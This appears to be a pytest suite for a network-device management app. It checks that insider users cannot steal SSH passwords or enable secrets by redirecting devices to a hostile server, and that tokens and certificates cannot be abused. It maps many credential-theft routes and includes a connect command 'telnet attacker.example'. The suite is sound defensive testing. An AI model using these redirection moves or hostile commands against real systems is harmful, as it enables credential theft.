"""Attacks on the secrets of an organization, by its own users."""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from typing import Any

import pytest

from tests.attacks.attackers import takeovers
from tests.attacks.attackers.insider import Office, office
from tests.attacks.attackers.mover import ENABLE, PASSWORD, WAITS, World, evil, world
from tests.attacks.attackers.recording_ssh import RecordingSsh
from tests.support.programs.sshd import PROGRAM as SSHD
from tests.support.servers.netbox import V1_TOKEN, NetBoxReplay, generated_devices

# A user who may manage devices, and no credentials, has a server of his own.


@pytest.fixture(scope="module", name="world")
async def made_world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    async with world(tmp_path_factory.mktemp("attacks")) as made:
        yield made


@pytest.fixture
async def stack() -> AsyncIterator[AsyncExitStack]:
    async with AsyncExitStack() as made:
        yield made


Move = Callable[[World, RecordingSsh], Awaitable[str]]


async def host_moved(world: World, server: RecordingSsh) -> str:
    device_id = await world.device()
    await world.move(device_id, host=server.host)
    return device_id


async def port_moved(world: World, server: RecordingSsh) -> str:
    device_id = await world.device(host=server.host, port=1)
    await world.move(device_id, port=server.port)
    return device_id


async def behind_a_jump(world: World, server: RecordingSsh) -> str:
    """The hostile jump device asks for a password itself."""
    jump = await world.made(world.mallory, "/api/devices", **as_evil(world, server))
    device_id = await world.device()
    await world.move(device_id, jump_device_id=jump)
    return device_id


async def jump_moved(world: World, server: RecordingSsh) -> str:
    """The jump device is logged in to by key, which nobody has to vouch for; it leads to the server."""
    jump = await world.device(default_credential_id=world.key)
    device_id = await world.device(jump_device_id=jump)
    await world.move(jump, host=server.host)
    server.forwards_to = (server.host, server.port)
    return device_id


async def jump_moved_with_allowed_hosts(world: World, server: RecordingSsh) -> str:
    bound = {"credential_type": "ssh_password", "username": "admin", "secret": PASSWORD}
    allowed = await world.made(
        world.admin, "/api/credentials", name=world.name(), allowed_hosts=["127.0.0.1"], **bound
    )
    jump = await world.device(default_credential_id=world.key)
    device_id = await world.device(jump_device_id=jump, default_credential_id=allowed)
    await world.move(jump, host=server.host)
    server.forwards_to = (server.host, server.port)
    return device_id


async def credential_cleared(world: World, server: RecordingSsh) -> str:
    """A machine that was never meant to be told the organization's password."""
    device_id = await world.device(host=server.host, default_credential_id=world.key)
    await world.move(device_id, default_credential_id=None)
    return device_id


async def device_made(world: World, server: RecordingSsh) -> str:
    return await world.made(world.mallory, "/api/devices", **as_evil(world, server))


async def device_made_again(world: World, server: RecordingSsh) -> str:
    fields = as_evil(world, server)
    before = await world.device(name=fields["name"])
    assert (await world.mallory.delete(f"/api/devices/{before}")).status == 204
    return await world.made(world.mallory, "/api/devices", **fields)


async def json_imported(world: World, server: RecordingSsh) -> str:
    row = as_evil(world, server)
    (await world.mallory.post("/api/devices/import/json", [row])).expect()
    return await world.named(row["name"])


async def csv_imported(world: World, server: RecordingSsh) -> str:
    name = world.name()
    text = f"name,host,port,device_type\n{name},{server.host},{server.port},cisco_ios\n"
    headers = {"Content-Type": "text/csv"}
    sent = world.mallory.request("POST", "/api/devices/import/csv", raw=text.encode(), headers=headers)
    (await sent).expect()
    return await world.named(name)


async def host_key_forgotten(world: World, server: RecordingSsh) -> str:
    device_id = await world.device()
    tested = await world.tested(device_id, world.admin)
    assert tested["success"], tested["message"]
    await world.mallory.post(f"/api/devices/{device_id}/host-key/reset")
    await world.move(device_id, host=server.host)
    return device_id


async def pinned_by_a_key_login(world: World, server: RecordingSsh) -> str:
    """The server is visited by key first, so that its own host key would be the one that stands for it."""
    device_id = await world.device(default_credential_id=world.key, device_type="linux")
    await world.move(device_id, host=server.host)
    tested = await world.tested(device_id)
    assert server.logins == 1, tested["message"]
    await world.move(device_id, default_credential_id=None)
    return device_id


def as_evil(world: World, server: RecordingSsh) -> dict[str, Any]:
    return {**world.as_honest(), "host": server.host, "port": server.port}


MOVES = [
    pytest.param(host_moved, id="a device with another host"),
    pytest.param(port_moved, id="a device with another port"),
    pytest.param(behind_a_jump, id="a jump device of one's own"),
    pytest.param(jump_moved, id="a jump device that leads elsewhere"),
    pytest.param(jump_moved_with_allowed_hosts, id="a jump device for a credential with allowed hosts"),
    pytest.param(credential_cleared, id="a device whose credential is taken away"),
    pytest.param(device_made, id="a new device"),
    pytest.param(device_made_again, id="a new device with the name of an old one"),
    pytest.param(json_imported, id="a device from a JSON file"),
    pytest.param(csv_imported, id="a device from a CSV file"),
    pytest.param(host_key_forgotten, id="a device whose host key is forgotten first"),
    pytest.param(pinned_by_a_key_login, id="a device whose host key was shown at a login by key"),
]


@pytest.mark.parametrize("move", MOVES)
async def test_no_password_goes_to(world: World, stack: AsyncExitStack, move: Move) -> None:
    server = await stack.enter_async_context(evil(world))
    device_id = await move(world, server)
    tested = await world.tested(device_id)
    assert server.heard == []
    assert WAITS in tested["message"] or "host key changed" in tested["message"]


@pytest.mark.parametrize(
    "options",
    [
        pytest.param({"methods": ["keyboard-interactive"]}, id="an answer to a question"),
        pytest.param({"methods": ["password", "keyboard-interactive"]}, id="a password"),
    ],
)
async def test_no_method_of_a_login_gives_away(
    world: World, stack: AsyncExitStack, options: dict[str, Any]
) -> None:
    server = await stack.enter_async_context(evil(world, **options))
    await world.tested(await host_moved(world, server))
    assert server.heard == []


async def test_a_login_by_key_brings_no_enable_secret(world: World, stack: AsyncExitStack) -> None:
    server = await stack.enter_async_context(evil(world))
    device_id = await world.device(default_credential_id=world.key)
    await world.move(device_id, host=server.host)
    tested = await world.tested(device_id)
    assert (server.logins, server.heard) == (1, [])
    assert WAITS in tested["message"]


async def test_a_connect_command_that_leads_elsewhere_brings_no_enable_secret_there(
    world: World, stack: AsyncExitStack
) -> None:
    server = await stack.enter_async_context(evil(world))
    device_id = await world.device(host=server.host, default_credential_id=world.key)
    await world.move(device_id, connect_commands=["telnet attacker.example"])
    await world.mallory.post(f"/api/config/devices/{device_id}/pull")
    assert server.heard == [ENABLE]  # by the administrator's word, before the command


# Whatever begins a session asks first.


async def by_test(world: World, device_id: str) -> None:
    await world.tested(device_id)


async def by_bulk_test(world: World, device_id: str) -> None:
    body = {"device_ids": [device_id]}
    (await world.mallory.post("/api/devices/bulk/test-credentials", body)).expect()


async def by_command(world: World, device_id: str) -> None:
    body = {"command": "show version"}
    answer = (await world.mallory.post(f"/api/devices/{device_id}/exec-command", body)).expect()
    assert WAITS in answer["error"]


async def by_pull(world: World, device_id: str) -> None:
    await world.mallory.post(f"/api/config/devices/{device_id}/pull")


async def by_bulk_pull(world: World, device_id: str) -> None:
    body = {"device_ids": [device_id]}
    await world.mallory.post("/api/config/devices/bulk-pull", body)


async def by_task(world: World, device_id: str) -> None:
    site = world.name()
    await world.move(device_id, site=site)
    task_id = await world.made(
        world.mallory,
        "/api/tasks/schedules",
        name=site,
        task_type="backup",
        cron_expression="0 0 1 1 *",
        max_retries=0,
        parameters={"device_filter": {"site": site}},
    )
    run = (await world.mallory.post(f"/api/tasks/schedules/{task_id}/run")).expect(202)
    ended = await world.ran(run["id"])
    assert [each["error_kind"] for each in ended["output"]["results"]] == ["not_vouched"]


async def by_the_administrator(world: World, device_id: str) -> None:
    """Who may manage credentials does not vouch by accident."""
    await world.tested(device_id, world.admin)
    await world.admin.post(f"/api/devices/{device_id}/exec-command", {"command": "show version"})


@pytest.mark.parametrize(
    "begin",
    [
        pytest.param(by_test, id="a test of its login"),
        pytest.param(by_bulk_test, id="a test of many logins"),
        pytest.param(by_command, id="a command"),
        pytest.param(by_pull, id="a pull of its config"),
        pytest.param(by_bulk_pull, id="a pull of many configs"),
        pytest.param(by_task, id="a run of a task"),
        pytest.param(by_the_administrator, id="the administrator, unawares"),
    ],
)
async def test_no_password_is_sent_to_a_moved_device_by(
    world: World, stack: AsyncExitStack, begin: Callable[[World, str], Awaitable[None]]
) -> None:
    server = await stack.enter_async_context(evil(world))
    device_id = await host_moved(world, server)
    await begin(world, device_id)
    assert server.heard == []


async def test_a_device_that_is_moved_to_and_fro_while_it_is_visited_gives_nothing_away(
    world: World, stack: AsyncExitStack
) -> None:
    server = await stack.enter_async_context(evil(world))
    device_id = await world.device()

    async def wander() -> None:
        for number in range(30):
            await world.move(device_id, host=server.host if number % 2 else "127.0.0.1")

    await asyncio.gather(wander(), *(world.tested(device_id) for _ in range(6)))
    await world.tested(device_id)
    assert server.heard == []


# Inventories: whose word a device that one of them brings rests on.


async def own_source(world: World, remote: NetBoxReplay) -> None:
    source = {"name": world.name(), "url": remote.url, "token": V1_TOKEN}
    source_id = await world.made(world.mallory, "/api/devices/sources/inventory", **source)
    await world.mallory.post(f"/api/devices/sources/inventory/{source_id}/sync")


async def source_turned_away(world: World, remote: NetBoxReplay) -> None:
    source = {"name": world.name(), "url": "http://127.0.0.1:1", "token": V1_TOKEN}
    source_id = await world.made(world.admin, "/api/devices/sources/inventory", **source)
    path = f"/api/devices/sources/inventory/{source_id}"
    (await world.mallory.put(path, {"url": remote.url, "token": V1_TOKEN})).expect()
    (await world.admin.post(f"{path}/sync")).expect()


async def named_in_the_request(world: World, remote: NetBoxReplay) -> None:
    body = {"inventory_url": remote.url, "token": V1_TOKEN}
    (await world.mallory.post("/api/devices/sync/inventory", body)).expect()


@pytest.mark.parametrize(
    "bring",
    [
        pytest.param(own_source, id="a source of one's own"),
        pytest.param(source_turned_away, id="a source that is turned away, whoever syncs it"),
        pytest.param(named_in_the_request, id="an inventory that the request names"),
    ],
)
async def test_no_password_waits_for_a_device_of(
    world: World, bring: Callable[[World, NetBoxReplay], Awaitable[None]]
) -> None:
    row = generated_devices(1)[0]
    address = {**row["primary_ip"], "address": "192.0.2.9/24", "display": "192.0.2.9/24"}
    name = world.name()
    remote = NetBoxReplay([{**row, "name": name, "primary_ip": address, "primary_ip4": address}])
    try:
        await bring(world, remote)
    finally:
        remote.close()
    tested = await world.tested(await world.named(name))
    assert WAITS in tested["message"]


async def test_an_approved_device_is_visited_and_nobody_else_approves_it(
    world: World, stack: AsyncExitStack
) -> None:
    server = await stack.enter_async_context(evil(world))
    device_id = await host_moved(world, server)
    assert (await world.mallory.post(f"/api/devices/{device_id}/vouch")).status == 403
    assert (await world.mallory.post("/api/devices/vouch", {"device_ids": [device_id]})).status == 403
    vouched = (await world.admin.post(f"/api/devices/{device_id}/vouch")).expect()
    assert (vouched["host"], vouched["credential_state"]) == (server.host, "usable")
    tested = await world.tested(device_id)
    assert tested["success"], tested["message"]
    assert server.heard == [PASSWORD, ENABLE]


# Certificates and API tokens: what an insider makes of a part of somebody else's power.


@pytest.fixture(scope="module", name="office")
async def made_office(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Office]:
    async with office(tmp_path_factory.mktemp("office")) as made:
        yield made


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(takeovers.made_user, id="a manager of users makes one to get that name certified"),
        pytest.param(takeovers.reset_user, id="a manager of users sets a password to get a name certified"),
        pytest.param(takeovers.user_made_by_token, id="a token makes a user to get that name certified"),
        pytest.param(takeovers.endless, id="a token lives for ever because nobody said its end"),
        pytest.param(takeovers.as_good_as_endless, id="an operator makes a token for a thousand years"),
        pytest.param(takeovers.after_a_reset, id="a token outlives the reset of its owner's password"),
        pytest.param(takeovers.after_a_new_password, id="a token outlives its owner's new password"),
        pytest.param(takeovers.by_a_task, id="a token has a task do what it may not"),
        pytest.param(takeovers.by_a_task_of_the_owner, id="a token turns a task of its owner to more"),
        pytest.param(takeovers.unseen, id="a leaked token is out of an administrator's reach"),
        pytest.param(takeovers.boasts, id="a token passes for all that its owner may do"),
        pytest.param(takeovers.leaves_a_role_by_its_name, id="a holder takes his role's name off the rules"),
    ],
)
async def test_no_insider_succeeds_where(office: Office, attack: takeovers.Attack) -> None:
    assert not await attack(office)


@pytest.mark.skipif(SSHD is None, reason="sshd is not installed")
@pytest.mark.parametrize(
    "end",
    [
        pytest.param(takeovers.log_out, id="its user has logged out"),
        pytest.param(takeovers.disable, id="its user is disabled"),
        pytest.param(takeovers.delete, id="its user is deleted"),
        pytest.param(takeovers.revoke, id="an administrator has revoked it"),
    ],
)
async def test_a_stolen_certificate_opens_no_server_once(office: Office, end: Any) -> None:
    assert not await takeovers.stolen(end)(office)
